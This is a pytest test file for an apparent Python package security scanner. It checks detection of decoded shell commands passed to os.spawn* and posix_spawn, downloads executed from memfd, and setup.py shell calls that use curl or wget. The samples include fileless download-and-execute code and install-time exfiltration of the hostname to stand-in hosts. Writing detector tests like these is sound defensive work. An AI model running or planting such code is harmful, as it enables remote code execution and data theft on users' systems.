"""A process call's command as the new program sees it (``_scan._commands``)."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._commands import wrapped_programs
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package, found_in_file


def danger(source: str) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "mod.py", mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


#: blind15 (tune b15-ds-urlsafe-spawnv): os.spawn* and posix_spawn take the new
#: program's argv after the file they name, as os.exec* does: a decoded shell command
#: there is the command, not an argument of a program the rules already know.
SPAWNED = [
    "import base64, os\n"
    "os.spawnv(os.P_NOWAIT, '/bin/sh', ['sh', '-c', base64.urlsafe_b64decode(X).decode()])\n",
    "import base64, os\nos.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', base64.b64decode(X).decode())\n",
    "import base64, os\n"
    "os.spawnve(os.P_NOWAIT, '/bin/bash', ['bash', '-c', base64.b64decode(X)], os.environ)\n",
    "import base64, os\n"
    "os.posix_spawn('/bin/sh', ['sh', '-c', base64.b64decode(X).decode()], os.environ)\n",
]


@pytest.mark.parametrize("source", SPAWNED)
def test_a_decoded_command_in_a_spawned_argv_is_run_decoded_data(source: str) -> None:
    assert "CPL-THR-001" in danger(source)


@pytest.mark.parametrize("source", SPAWNED)
def test_a_spawned_argv_is_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-001")


@pytest.mark.parametrize(
    "source",
    [
        # a build helper spawning the compiler with decoded (packed) flags: the program
        # is written out and no interpreter runs the decoded text
        "import base64, os\n"
        "os.spawnv(os.P_WAIT, '/usr/bin/cc', ['cc', base64.b64decode(FLAGS).decode()])\n",
        # a test runner re-spawning the interpreter on a file of the package
        "import os, sys\nos.spawnv(os.P_WAIT, sys.executable, [sys.executable, 'setup.py'])\n",
        "import os\nos.posix_spawn('/bin/ls', ['ls', '-l'], os.environ)\n",
    ],
)
def test_a_spawned_program_given_data_that_is_no_command_is_not_a_threat(source: str) -> None:
    assert "CPL-THR-001" not in danger(source)


#: blind16 (tune b16-dr-memfd-fexecve): a download written to an anonymous memfd and run
#: from memory, by its /proc/self/fd path or by fexecve: no file on disk is named.
FROM_MEMORY = [
    "import os, urllib.request\n"
    "data = urllib.request.urlopen('http://198.51.100.140/k').read()\n"
    "fd = os.memfd_create('k', 0)\nos.write(fd, data)\n"
    "os.execve('/proc/self/fd/%d' % fd, ['k'], dict(os.environ))\n",
    "import os, requests\nfd = os.memfd_create('x')\n"
    "os.write(fd, requests.get('https://x.example/a').content)\n"
    "os.execv(f'/proc/self/fd/{fd}', ['x'])\n",
    "import os, urllib.request\nfd = os.memfd_create('k', 0)\n"
    "os.write(fd, urllib.request.urlopen('http://198.51.100.140/k').read())\n"
    "os.fexecve(fd, ['k'], {})\n",
]


@pytest.mark.parametrize("source", FROM_MEMORY)
def test_a_download_written_to_a_memfd_and_run_from_it_is_run_downloaded_data(source: str) -> None:
    assert "CPL-THR-002" in danger(source)


@pytest.mark.parametrize("source", FROM_MEMORY)
def test_a_download_run_from_a_memfd_is_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")


@pytest.mark.parametrize(
    "source",
    [
        # the interpreter re-executed with its own arguments (a reloader)
        "import os, sys\nos.execv(sys.executable, [sys.executable] + sys.argv)\n",
        # a memfd holding data the program built, never run; one run that holds the
        # package's own bytes
        "import os\nfd = os.memfd_create('buf')\nos.write(fd, b'x' * 4096)\n",
        "import os\nfd = os.memfd_create('t')\nos.write(fd, open('tool', 'rb').read())\n"
        "os.execv('/proc/self/fd/%d' % fd, ['t'])\n",
    ],
)
def test_a_memfd_or_an_exec_without_a_download_is_not_a_download_run(source: str) -> None:
    assert "CPL-THR-002" not in danger(source)


# -- recall17: a downloader wrapped in a shell ---------------------------------------------


@pytest.mark.parametrize(
    ("words", "programs"),
    [
        (["bash", "-c", "curl -s https://h.example/p -d $(hostname)"], ["curl", "hostname"]),
        (
            ["/bin/sh", "-ec", "X=1 sudo wget -q https://h.example/x && chmod +x x"],
            ["wget", "chmod"],
        ),
        (["cmd.exe", "/c", "certutil", "-urlcache", "-f", "https://h.example/a"], ["certutil"]),
        (["powershell", "-NoProfile", "-Command", "iwr https://h.example/a"], ["iwr"]),
        (["bash", "script.sh"], []),
        (["python", "-c", "import os"], []),
    ],
)
def test_the_programs_a_shell_script_runs_are_read(words: list[str], programs: list[str]) -> None:
    assert wrapped_programs(words) == programs


WRAPPED_DOWNLOADS = [
    "import subprocess\nfrom setuptools import setup\n"
    'subprocess.call(["bash", "-c", "curl -s https://c.recall17.example/p -d $(hostname)"])\n'
    'setup(name="x")\n',
    "import os\nfrom setuptools import setup\n"
    "os.system('bash -c \"curl -s https://c.recall17.example/p?h=$(hostname)\"')\n"
    'setup(name="x")\n',
    "import subprocess\nfrom setuptools import setup\n"
    "subprocess.run(\"sh -c 'cd /tmp; wget -q http://198.51.100.2/i'\", shell=True)\n"
    'setup(name="x")\n',
]


@pytest.mark.parametrize("source", WRAPPED_DOWNLOADS)
def test_a_downloader_a_shell_runs_in_setup_py_is_install_time_network(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    findings = scan_source(source, "setup.py", mode=ScanMode.PACKAGE)
    assert "CPL-THR-011" in {f.rule_id for f in findings if f.severity is Severity.DANGER}
    found_in_file(tmp_path, monkeypatch, "setup.py", source, "CPL-THR-011")


@pytest.mark.parametrize(
    "source",
    [
        # a build through a shell, and a message that names curl
        "import subprocess\nfrom setuptools import setup\n"
        'subprocess.check_call(["bash", "-c", "make -j4 && make install PREFIX=build"])\n'
        'subprocess.check_call(["sh", "-c", "echo curl is needed to fetch models later"])\n'
        'setup(name="x")\n',
    ],
)
def test_a_shell_in_setup_py_that_runs_no_downloader_is_not_network(source: str) -> None:
    findings = scan_source(source, "setup.py", mode=ScanMode.PACKAGE)
    assert "CPL-THR-011" not in {f.rule_id for f in findings}
